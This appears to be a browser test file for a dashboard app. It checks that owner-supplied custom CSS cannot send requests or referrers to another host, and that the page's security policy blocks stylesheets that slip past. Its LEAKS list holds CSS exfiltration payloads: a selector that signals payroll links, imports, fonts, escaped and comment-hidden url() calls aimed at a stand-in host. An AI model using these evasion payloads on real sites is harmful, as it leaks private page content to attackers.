import { createServer } from 'node:http'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { en } from '../support/texts.ts'
import { leave, OTHER_HOST, type Tab, untilAnswered, useBrowser } from './browser.ts'
import { openMenu } from './owner.ts'
import type { FilledSite } from './sites.ts'

const browser = useBrowser()
const arrived: string[] = []
const referrers: (string | undefined)[] = []
const listener = createServer((request, response) => {
  arrived.push(request.url ?? '')
  referrers.push(request.headers.referer)
  response.writeHead(200, { 'content-type': 'image/svg+xml', 'access-control-allow-origin': '*' })
  response.end('<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>')
})
let foreign = ''
beforeAll(async () => {
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const address = listener.address()
  foreign = `http://${OTHER_HOST}:${typeof address === 'object' ? address?.port : 0}`
})
afterAll(() => void listener.close())

/** `@/` and `OTHER` are the other host. */
const LEAKS: readonly [name: string, css: string][] = [
  ['by a link it selects', 'a[href^="https://payroll"]{background-image:url(@/payroll)}'],
  ['by imports', '@import url(@/a);@import "@/b";@import url("@/c") layer(x);@IMPORT \'@/d\' screen;'],
  ['by fonts', '@font-face{font-family:x;src:local("none"),url(@/x.woff2)}body,b,h2{font-family:x}'],
  [
    'by every property that takes a picture',
    `h1{background:url("@/a")}h2{list-style:url('@/b') inside;display:list-item}.count::before{content:url(@/c)}
    .top{border:9px solid;border-image:url(@/d) 1}.brand{mask-image:url(@/e)}.tile{cursor:url(@/f),auto}
    .group{filter:url(@/g#f)}.card{clip-path:url(@/h#c)}.tools{shape-outside:url(@/i);float:left}
    .jump{background:image-set("@/j" 1x,url(@/k) 2x)}.jump a{background:-webkit-image-set(url(@/l) 1x)}
    .search{background:cross-fade(url(@/m) 50%,url(@/n))}main{--x:url(@/o);background:var(--x)}
    #groups{background:src("@/p")}:root{--y:"@/q"}body{background:image(var(--y))}`,
  ],
  [
    'by escapes and odd spellings',
    String.raw`h1{background:\75 rl(@/a)}h2{background:u\72l("@/b")}b{background:URL( @/c )}
    .card{background:url(\68ttp://OTHER/d)}.tile{background:url("\68\74\74p:\2f/OTHER/e")}
    .brand{background:url(//OTHER/f)}.tools{background:url("\\\\OTHER\\g")}.jump{background:url("/\
/OTHER/h")}main{background:url("ht\
tp://OTHER/i")}.top{background:url(	@/j	)}.group{background:url(http:\/\/OTHER/k)}`,
  ],
  [
    'behind half a comment',
    '/* url( */h1{background:url(@/a)}/*" */h2{background:url(@/b)}/**/b{background:url(/**/@/c)}',
  ],
  ['behind a half string', 'x{y:"\n}h1{background:url(@/a)}"\nh2{background:url(@/b)}'],
  ['behind brackets that are none', '1url(a "b) c"){}h1{background:url(@/a)}#url(d "e) f"){}h2{background:url(@/b)} "'],
  [
    'behind marks of old',
    '<!--url(a)-->h1{background:url(@/a)}<!--h2{background:url(@/b)}×url(")h1{}b{background:url(@/c)}',
  ],
  ['behind an open bracket', 'h1{background:url(a"b)}h2{background:url(@/b)}'],
  ['inside rules', '@layer x{@supports (color:red){h1{background:url(@/a);& *{background:url(@/b)}}}}'],
]

/** Sets custom CSS, and the icon of a link. From now on, what arrives at the other host is counted. */
async function setCss(site: FilledSite, css: string, icon = ''): Promise<void> {
  const host = foreign.replace('http://', '')
  const written = css.replaceAll('@/', `${foreign}/`).replaceAll('OTHER', host)
  await site.client.owner('PUT', '/api/sites/1', { icon })
  expect((await site.client.owner('PUT', '/api/configs', { 'site.customCss': written })).status).toBe(200)
  arrived.length = 0
}

async function started(css: string, icon = '', options = {}): Promise<{ site: FilledSite; tab: Tab }> {
  const site = await browser.filled()
  await setCss(site, css, icon)
  return { site, tab: await browser.openAsOwner(site, options) }
}

/** Loads the page, and waits until every icon in view has come or been refused. */
async function showAll(tab: Tab, { baseUrl }: FilledSite): Promise<void> {
  await tab.goto(baseUrl)
  const settled = tab.locator('.tile img').evaluateAll((icons) =>
    Promise.all(
      icons.map(async (icon) => {
        const isSettled = () => icon.matches('.here, [hidden]') || !icon.checkVisibility()
        while (!isSettled()) await new Promise(requestAnimationFrame)
      }),
    ),
  )
  await settled
  await untilAnswered(tab)
}

it('custom CSS tells another host nothing, even one that an icon names', async () => {
  const { site, tab } = await started('', '', { serviceWorkers: 'block' }) // it would show the page as it was before
  for (const [how, css] of LEAKS) {
    await leave(tab)
    await setCss(site, css, `${foreign}/icon.svg`)
    await showAll(tab, site)
    expect(await tab.locator('link[rel="stylesheet"][href*="theme.css"]').count(), how).toBe(1)
    expect(arrived, how).toEqual([])
  }
})

it('custom CSS tells another host nothing by the pictures of the page that it hides', async () => {
  const { site, tab } = await started('')
  const link = (name: string, url: string) => ({ group_id: 4, name, url, icon: `${foreign}/${name}.png` })
  const hidden = ['pay', 'qqq'].map((name) => `html:has(a[href*="${name}.ex"]) img[src$="${name}.png"]{display:none}`)
  const document = {
    groups: [{ id: 4, name: 'Secret plans', order_num: 3, is_public: 0 }],
    sites: [link('pay', 'https://pay.example/'), link('qqq', 'https://another.example/')],
    configs: [
      { key: 'site.customCss', value: hidden.join('') },
      { key: 'site.backgroundImage', value: `${foreign}/back.svg` },
    ],
  }
  expect((await site.client.owner('POST', '/api/import?settings=all', document)).status).toBe(200)
  await showAll(tab, site)
  expect(arrived).toEqual([])
})

it('a style sheet that got around this is stopped by the page’s policy', async () => {
  const { site, tab } = await started('body { letter-spacing: 3px }')
  await tab.goto(site.baseUrl)
  const violation = tab.evaluate(
    () =>
      new Promise((done) => document.addEventListener('securitypolicyviolation', ({ blockedURI }) => done(blockedURI))),
  )
  await tab.evaluate((host) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url(${host}/around) }`)
    document.adoptedStyleSheets.push(sheet)
  }, foreign)
  expect(await violation).toContain('/around')
  expect(arrived).toEqual([])
})

it('where custom CSS meets private links, pictures of this host show, and those of others for guests', async () => {
  const { site, tab } = await started('body { letter-spacing: 3px }', `${foreign}/icon.svg`)
  await site.client.owner('PUT', '/api/configs', { 'site.backgroundImage': `${foreign}/back.svg` })
  await site.client.owner('PUT', '/api/sites/2', { icon: `${site.baseUrl}/icon.svg` })
  for (const [visitor, requests, icons] of [
    [tab, [], [`${site.baseUrl}/icon.svg`]],
    [await browser.open(), ['/back.svg', '/icon.svg'], [`${foreign}/icon.svg`, `${site.baseUrl}/icon.svg`]],
  ] as const) {
    arrived.length = 0
    referrers.length = 0
    await showAll(visitor, site)
    await expect.poll(() => arrived.toSorted()).toEqual(requests)
    const shown = visitor.locator('.tile img.here:not([src^="/logos/"])')
    expect(await shown.evaluateAll((all) => all.map((icon) => icon.getAttribute('src')))).toEqual(icons)
    expect(await visitor.evaluate(() => getComputedStyle(document.body).letterSpacing)).toBe('3px')
    expect(referrers).toEqual(requests.map(() => undefined))
  }
})

it('without custom CSS, the owner sees the pictures of other hosts', async () => {
  const { site, tab } = await started('', `${foreign}/icon.svg`)
  await site.client.owner('PUT', '/api/configs', { 'site.backgroundImage': `${foreign}/back.svg` })
  await showAll(tab, site)
  await expect.poll(() => arrived.toSorted()).toEqual(['/back.svg', '/icon.svg'])
  expect(tab.complaints).toEqual([])
})

it('a page that is open gets custom CSS together with its policy, at the next look', async () => {
  const { site, tab } = await started('')
  await tab.goto(site.baseUrl)
  await site.client.owner('PUT', '/api/configs', { 'site.customCss': 'body { letter-spacing: 3px }' })
  const policy = async () => {
    await tab.evaluate(() => window.dispatchEvent(new Event('focus'))).catch(() => undefined) // it is loading
    return tab.locator('meta[http-equiv]').count()
  }
  await expect.poll(policy).toBe(1)
  const spacing = () => tab.evaluate(() => getComputedStyle(document.body).letterSpacing).catch(() => 'loading')
  await expect.poll(spacing).toBe('3px')
})

it('what is typed in the settings is held to the same, before it is saved', async () => {
  const { site, tab } = await started('', `${foreign}/icon.svg`)
  await tab.goto(site.baseUrl)
  await openMenu(tab, en.settings.title)
  await tab.getByText(en.settings.customCssHint).waitFor()
  await tab.locator(`.tile img.here[src^="${foreign}"]`).waitFor({ state: 'attached' })
  await untilAnswered(tab)
  arrived.length = 0
  await tab
    .getByLabel(en.settings.customCss)
    .fill(`h1{background:url(${foreign}/typed)}body::after{content:url(/icon-192.png?done)}`)
  const last = () => tab.evaluate(() => getComputedStyle(document.body, '::after').content)
  await expect.poll(last).toContain('?done')
  await tab.getByLabel(en.settings.backgroundImage).fill(`${foreign}/back.svg`)
  const behind = () => tab.evaluate(() => getComputedStyle(document.body, '::before').backgroundImage)
  await expect.poll(behind).toContain('/back.svg')
  await untilAnswered(tab)
  expect(arrived).toEqual([])
})
